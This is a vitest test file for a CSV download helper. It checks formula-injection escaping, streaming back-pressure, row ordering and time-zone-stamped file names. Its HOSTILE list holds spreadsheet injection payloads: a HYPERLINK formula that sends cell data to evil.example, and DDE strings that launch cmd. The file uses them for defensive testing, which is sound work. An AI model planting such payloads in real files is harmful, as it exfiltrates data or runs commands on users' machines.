import { describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { CHUNK_ROWS, csvDownload, stampedCsvName } from "./csv";

const HOSTILE = [
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\uFF1D1+1",
  "-",
];

async function cells(rows: unknown[][], stream: boolean): Promise<string[][]> {
  const source = stream
    ? (async function* () {
        yield* rows;
      })()
    : rows;
  const text = await csvDownload(
    source,
    rows[0]!.map((_, i) => `c${i}`),
    "t.csv",
  ).text();
  return parse(text, { from_line: 2, relax_column_count: true }) as string[][];
}

describe("csvDownload", () => {
  for (const stream of [false, true]) {
    it(`neutralises cells a spreadsheet would run as formulas (${stream ? "streamed" : "whole"})`, async () => {
      const [row] = await cells([HOSTILE], stream);
      for (const [i, cell] of row!.entries()) expect(cell).toBe(`'${HOSTILE[i]}`);
    });

    it(`keeps amounts, negative ones included, and ordinary text (${stream ? "streamed" : "whole"})`, async () => {
      const [row] = await cells([["-12.50", -7, "12.50", "ch_1", "ref-1", "a=b", "", "-0.5"]], stream);
      expect(row).toEqual(["-12.50", "-7", "12.50", "ch_1", "ref-1", "a=b", "", "-0.5"]);
    });
  }
});

describe("csvDownload, streamed", () => {
  it("reads about one chunk ahead of a reader that stops taking the file, not the whole source", async () => {
    let produced = 0;
    async function* rows() {
      for (let i = 0; i < 200_000; i++) {
        produced++;
        yield [i, "x".repeat(60)];
      }
    }
    const reader = csvDownload(rows(), ["n", "s"], "t.csv").body!.getReader();
    await reader.read();
    // Give a read-ahead every chance to run before looking.
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(produced).toBeLessThanOrEqual(3 * CHUNK_ROWS);
    await reader.cancel();
  });

  it("writes the header once and every row, in order, across chunks; the header alone for no rows", async () => {
    async function* rows(n: number) {
      for (let i = 0; i < n; i++) yield [i];
    }
    const text = await csvDownload(rows(2 * CHUNK_ROWS + 7), ["n"], "t.csv").text();
    expect(text.split("\n")).toEqual(["n", ...Array.from({ length: 2 * CHUNK_ROWS + 7 }, (_, i) => String(i)), ""]);
    expect(await csvDownload(rows(0), ["n"], "t.csv").text()).toBe("n\n");
  });
});

describe("stampedCsvName", () => {
  it("names the file by the exporting person's clock, not UTC", () => {
    const at = new Date("2026-11-26T21:45:31Z");
    expect(stampedCsvName("transactions", "Asia/Shanghai", at)).toBe("transactions-2026-11-27-05-45-31.csv");
    expect(stampedCsvName("audit", "UTC", at)).toBe("audit-2026-11-26-21-45-31.csv");
  });
});
